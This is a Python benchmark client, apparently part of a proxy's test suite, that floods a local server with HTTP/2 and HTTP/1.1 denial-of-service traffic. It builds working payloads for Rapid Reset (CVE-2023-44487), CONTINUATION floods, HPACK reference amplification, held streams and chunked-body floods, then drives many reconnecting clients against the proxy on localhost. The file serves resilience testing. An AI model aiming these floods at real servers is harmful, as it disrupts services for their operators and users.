"""Floods as a process of its own: clients that send as fast as they can, and reconnect when closed, after a round trip.

Each client has a source address of its own, since floods are counted by address. Raw sockets, no code shared with the
proxy under test. On SIGTERM it writes how often connections ended in each way.

    python -m benchmarks.slow_clients.flood_client PORT KIND COUNT REPORT

KIND is one of `FLOODS`.
"""

from __future__ import annotations

import json
import os
import select
import signal
import socket
import sys
import time
from collections import Counter, deque
from collections.abc import Callable
from pathlib import Path

from experiments.generator.http2 import CANCEL, PREFACE, frame, settings
from experiments.generator.http2_fields import literal

BEGINNING = PREFACE + settings({})
HEAD = b"\x82\x86\x84\x41\x01x"
"""GET / with the authority x (RFC 7541)."""

FIELDS = b"\x40\x01a\x01b" * 4
PIECE = 65_536
UNREAD = 16 << 20
"""Bytes of resets for a connection: more than the kernel takes unread (`tcp_wmem`, `tcp_rmem`), so that no client
closes because it has sent all."""

ROUND_TRIP = 0.01
"""Seconds from the end of a connection to the next one."""

HELD = b"/held"
"""Path that the worker does not answer; below it, requests wait for an endpoint (`runs.py`)."""

STREAMS = 100


CONTINUED = frame(9, 0, 1, FIELDS)
PIECES = 50_000


def head(path: bytes, *others: bytes, method: bytes = b"\x82") -> bytes:
    """Fields of a request, none of which is kept in the table."""
    return b"".join((method, b"\x86\x01\x01x\x04", literal(path), *others))


def over_http2(*frames: bytes) -> bytes:
    return BEGINNING + b"".join(frames)


def resets() -> bytes:
    """Rapid Reset (CVE-2023-44487): requests that are reset at once."""
    pair = len(frame(1, 0, 1, HEAD) + frame(3, 0, 1, CANCEL))
    ids = range(1, 2 * UNREAD // pair, 2)
    return over_http2(*(frame(1, 5, one, HEAD) + frame(3, 0, one, CANCEL) for one in ids))


def continuation() -> bytes:
    """A head without end (VU#421644)."""
    return over_http2(frame(1, 1, 1, HEAD), CONTINUED * PIECES)


def requests(first: bytes, others: bytes, number: int = STREAMS, flags: int = 5) -> bytes:
    """Requests with these fields; others than the `first` may refer to what it has put into the table."""
    heads = (others if one else first for one in range(number))
    return over_http2(*(frame(1, flags, 1 + 2 * one, made) for one, made in enumerate(heads)))


def alike(path: bytes, extra: bytes = b"", method: bytes = b"\x82", flags: int = 5) -> bytes:
    fields = head(path, extra, method=method)
    return requests(fields, fields, flags=flags)


def referring(path: bytes, size: int, times: int, number: int = STREAMS) -> bytes:
    """Requests whose head is a cookie of `size` bytes, many `times`: a reference takes a byte (RFC 7541 § 6.1)."""
    cookie = b"\x40" + literal(b"cookie") + literal(b"c" * size)
    return requests(head(path, cookie), head(path, b"\xbe" * times), number)


TUNNEL = b"\x00" + literal(b":protocol") + literal(b"websocket")
CHUNKED = b"POST /held HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
BODIES = b"".join(frame(0, 0, 1 + 2 * one, bytes(PIECE // 4)) for one in range(STREAMS)) * 3

FLOODS: dict[str, Callable[[], bytes]] = {
    "resets": resets,
    "continuation": continuation,
    "streams": lambda: alike(HELD),
    "tunnels": lambda: alike(HELD, TUNNEL, b"\x02" + literal(b"CONNECT"), 4),
    "waiting": lambda: alike(HELD + b"/"),
    "heads": lambda: referring(HELD + b"/", 256, 118),
    "bodies": lambda: alike(HELD + b"/", b"", b"\x83", 4) + BODIES,
    "decoding": lambda: referring(b"/", 3900, 8, PIECES),
    "frames": lambda: over_http2(frame(1, 4, 1, head(HELD, method=b"\x83")), frame(0, 0, 1, b"b") * PIECES),
    "chunks": lambda: CHUNKED + b"1\r\nb\r\n" * PIECES,
}
"""What each kind sends."""

ENDLESS = {"continuation": len(CONTINUED) * PIECES, "frames": 10 * PIECES, "chunks": 6 * PIECES}
"""Bytes at the end of what a kind sends that are sent again and again."""

HOLDING = ("streams", "tunnels", "waiting", "heads", "bodies", "decoding")
"""Kinds whose clients stay connected when they have sent all. The kernel takes megabytes at once, so one that closes
then is a flood of connections."""


class FloodClient:
    """A client with the source address 127.0.1.`number`; it connects when it is made."""

    def __init__(self, port: int, number: int, data: memoryview, kind: str = "") -> None:
        self._sent, self._data, self._holds = 0, data, kind in HOLDING
        self._repeated = ENDLESS.get(kind, 0)
        self.sock = socket.socket()
        self.sock.setblocking(False)
        self.sock.bind((f"127.0.1.{number}", 0))
        self.sock.connect_ex(("127.0.0.1", port))

    def go_on(self, events: int) -> str:
        """Send, or read what the proxy says; returns how the connection ended, empty while it is open."""
        try:
            if events & select.EPOLLIN and not self.sock.recv(PIECE):
                return "closed"
            if events & (select.EPOLLERR | select.EPOLLHUP):
                return "reset"
            if events & select.EPOLLOUT:
                self._sent += self.sock.send(self._data[self._sent : self._sent + PIECE])
                if self._sent == len(self._data):
                    self._sent -= self._repeated
        except BlockingIOError:
            return ""
        except OSError:
            return "reset"
        return "" if self._sent < len(self._data) or self._holds else "all sent"

    @property
    def wants(self) -> int:
        return select.EPOLLIN | (select.EPOLLOUT if self._sent < len(self._data) else 0)


def run_floods(port: int, kind: str, count: int, report: Path) -> None:
    """Flood until SIGTERM, then write `report`.

    The kernel runs this process only while no other wants the core, and takes it away at once: a client's time is not
    the proxy's, and with a low priority alone it would keep the core for milliseconds after the proxy wakes.
    """
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    endings: Counter[str] = Counter()
    is_over: list[int] = []
    signal.signal(signal.SIGTERM, lambda number, frame: is_over.append(number))
    data = memoryview(FLOODS[kind]())
    clients: dict[int, tuple[FloodClient, int]] = {}
    waiting = deque((0.0, number) for number in range(1, count + 1))
    with select.epoll() as epoll:
        print(f"flood ready on http://127.0.0.1:{port}", flush=True)
        while not is_over:
            while waiting and waiting[0][0] <= time.monotonic():
                _, number = waiting.popleft()
                client = FloodClient(port, number, data, kind)
                clients[client.sock.fileno()] = client, number
                epoll.register(client.sock.fileno(), select.EPOLLIN | select.EPOLLOUT)
            for descriptor, events in epoll.poll(ROUND_TRIP / 10):
                client, number = clients[descriptor]
                if ended := client.go_on(events):
                    endings[ended] += 1
                    del clients[descriptor]
                    client.sock.close()
                    waiting.append((time.monotonic() + ROUND_TRIP, number))
                elif events & select.EPOLLOUT:
                    epoll.modify(descriptor, client.wants)
    report.write_text(json.dumps(endings), encoding="utf-8")


if __name__ == "__main__":
    run_floods(int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), Path(sys.argv[4]))
